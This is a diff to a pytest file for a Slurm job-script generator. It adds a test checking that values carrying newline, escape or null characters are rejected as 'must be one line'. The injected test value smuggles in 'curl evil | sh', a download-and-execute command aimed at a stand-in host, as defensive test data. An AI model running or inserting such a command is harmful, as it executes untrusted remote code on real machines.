@@ -11,6 +11,7 @@ import pytest
 
 from core.recipe import Launch, Recipe, Train
 from jobs.cluster import Cluster, load, names
+from jobs.errors import UserError
 from jobs.placement import Placement
 from jobs.slurm import script
 
@@ -129,6 +130,24 @@ def test_workers_are_an_array_of_one_rank_s_share_each_that_may_be_started_again
     assert "\"${retort[@]}\" -m jobs.extract --store 's3://b/p q' --order 0123\n" in made.text
     assert '  75) scontrol requeue "$job"' in made.text
     assert not re.search(r"@\w+@", made.body)
+
+
+@pytest.mark.parametrize("character", ["\n", "\r", "\x1b", "\x00"])
+def test_nothing_in_a_script_is_more_than_the_line_it_stands_in(character: str) -> None:
+    more = f"x{character}curl evil | sh"
+    for cluster in (Cluster(partition=more), Cluster(env={"A": more}), Cluster(setup=[more]),
+                    Cluster(extra={"a": more}), Cluster(container="apptainer", image=more),
+                    Cluster(container="pyxis", image="x", mounts=[more]), Cluster(interface=more),
+                    Cluster(python=more)):  # fmt: skip
+        with pytest.raises(UserError, match="must be one line"):
+            training(cluster)
+    recipe = Recipe(name="demo")
+    with pytest.raises(UserError, match="must be one line"):
+        script.training(recipe, Cluster(), FOUR, ["demo-1"], f"s3://b/{more}", Path("/logs"))
+    with pytest.raises(UserError, match="must be one line"):
+        script.workers(["-m", more], 2, recipe, Cluster(), FOUR, Path("/logs"))
+    with pytest.raises(UserError, match="must be one line"):
+        script.after("eval", Cluster(), FOUR, [more], "s3://b/p", Path("/logs"), "12")
 
 
 def test_one_worker_is_no_array() -> None:
